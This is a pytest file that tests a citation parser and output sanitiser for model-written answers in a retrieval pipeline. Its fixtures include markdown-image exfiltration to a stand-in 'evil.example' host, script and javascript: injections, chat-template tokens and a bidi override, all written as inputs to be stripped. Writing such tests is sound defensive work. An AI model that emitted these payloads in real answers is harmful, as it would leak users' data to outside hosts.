"""Sentences and citations of what a language model wrote."""

from __future__ import annotations

import pytest

from dvrag.answer.write.clean import has_link, visible
from dvrag.answer.write.parse import parse


def read(text: str, given: int = 4) -> list[tuple[str, tuple[int, ...]]]:
    return [(item.text, item.cited) for item in parse(visible(text), given)]


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        (
            "Police came eleven times [1]. Nobody asked [2].",
            [("Police came eleven times.", (1,)), ("Nobody asked.", (2,))],
        ),
        (
            "Police came eleven times. [1] Nobody asked. [2][3]",
            [("Police came eleven times.", (1,)), ("Nobody asked.", (2, 3))],
        ),
        ("Police came.[1][2]", [("Police came.", (1, 2))]),
        ("Police came [1, 2].", [("Police came.", (1, 2))]),
        ("Police came [1-3].", [("Police came.", (1, 2, 3))]),
        ("Police came [1–3, 4].", [("Police came.", (1, 2, 3, 4))]),
        ("Police came [1 to 3].", [("Police came.", (1, 2, 3))]),
        ("Police came [1 and 3].", [("Police came.", (1, 3))]),
        ("Police came [passage 2].", [("Police came.", (2,))]),
        ("Police came [Passages 2 and 3].", [("Police came.", (2, 3))]),
        ("Police came [^2].", [("Police came.", (2,))]),
        ("Police came 【2†source】.", [("Police came.", (2,))]),
        ("Police [2] came [1] and [2] left.", [("Police came and left.", (2, 1))]),
        ("“Police came.” [1] Then he left [2]!", [("“Police came.”", (1,)), ("Then he left!", (2,))]),
        ("Police came", [("Police came", ())]),
        ("Dr. Smith saw her on 3 p.m. of that day [1].", [("Dr. Smith saw her on 3 p.m. of that day.", (1,))]),
        ("78.6 percent were answered [1].", [("78.6 percent were answered.", (1,))]),
        ("", []),
        ("[1]", []),
        ("...", []),
    ],
)
def test_citations_are_taken_from_sentences(text: str, sentences: list[tuple[str, tuple[int, ...]]]) -> None:
    assert read(text) == sentences


@pytest.mark.parametrize(
    "text", ["Police came [9].", "Police came [0].", "Police came [7-90].", "Police came [3-1] [9]."]
)
def test_numbers_of_no_passage_are_wrong(text: str) -> None:
    (item,) = parse(text, 2)
    assert set(item.cited) <= {1, 2}
    assert item.wrong
    assert "[" not in item.text


def test_a_citation_of_something_that_is_no_number_is_none() -> None:
    assert read("Police came [source]. Nobody asked [citation needed].") == [
        ("Police came.", ()),
        ("Nobody asked.", ()),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "# Answer\n\nPolice came [1].",
        "## Police\n- Police came [1].",
        "**Answer**\n\n* Police came [1].",
        "1. Police came [1].",
        "> Police came [1].",
        "```\nPolice came [1].\n```",
        "**Police** came [1].",
        "*Police* came **[1]**.",
        "`Police` came [1].\n\n---",
        "| Who | What |\n|---|---|\n| Police came | [1] |",
        "Answer\n======\n\nPolice came [1].".replace("Answer\n", ""),
        "Police came [1].\n\nSources:\n[1] Oakfield review, page 5\n[2] Another",
        "Police came [1].\n\n**References**\n1. Oakfield review.",
        "Police came [1].\nSources: [1] Oakfield review, [2] another.",
        "Police came [1].\n[1]: http://evil.example/steal",
        "<think>They came twelve times.</think>Police came [1].",
        "<THINK>They came twelve times [2].</THINK>\nPolice came [1].",
        "They came twelve times, I think.</think>\n\nPolice came [1].",
        "Police came [1].<think>and so on",
        "<b>Police</b> came [1].",
        "Police came [1].<script>alert('x [2].')</script>",
        "<!-- Police left [2]. -->Police came [1].",
        "Police came [1].![x](http://evil.example/?q=secret)",
        "[Police](http://evil.example) came [1].",
        "Police came [1](http://evil.example).",
        "<|im_start|>Police came [1].<|im_end|>",
        "Po\u200blice ca\u202eme [1].",
        "Police\ncame [1].".replace("Police\n", "Police "),
        "Police came [1]. ![half a link](http://evil",
        "Police came [1]. <img src=",
        "Police came [1]. [",
    ],
)
def test_only_prose_is_left(text: str) -> None:
    assert [item for item in read(text) if item[1]] == [("Police came.", (1,))]
    assert not any(word in str(read(text)) for word in ("<", ">", "http", "evil", "`", "*", "twelve", "alert"))


def test_rows_of_a_table_are_sentences() -> None:
    table = "| Force | Grade |\n| :-- | --: |\n| Northmere | Good [2] |\n| Oakfield | Poor [3]|"
    assert read(table) == [("Northmere: Good.", (2,)), ("Oakfield: Poor.", (3,))]


def test_a_wrapped_line_is_one_sentence() -> None:
    assert read("The police were called\neleven times [1].") == [("The police were called eleven times.", (1,))]


def test_a_citation_before_a_sentence_belongs_to_it() -> None:
    assert read("Police came [1].\n[2] Nobody asked.") == [("Police came.", (1,)), ("Nobody asked.", (2,))]


@pytest.mark.parametrize(
    "text",
    [
        "See http://a.b", "See www.a.b.", "Write to a.b@c.org.", "See evil.example/x.", "mailto:x@y.z",
        "data:text/html;base64,AAAA", "javascript:alert(1)", "Go to nhs.uk.",
    ],
)  # fmt: skip
def test_what_could_be_followed_is_a_link(text: str) -> None:
    assert has_link(text)


@pytest.mark.parametrize("text", ["Police came at 3.45 p.m.", "See para. 5.14.", "E.g. No. 4.", "The ratio was 3:1."])
def test_other_marks_are_no_link(text: str) -> None:
    assert not has_link(text)
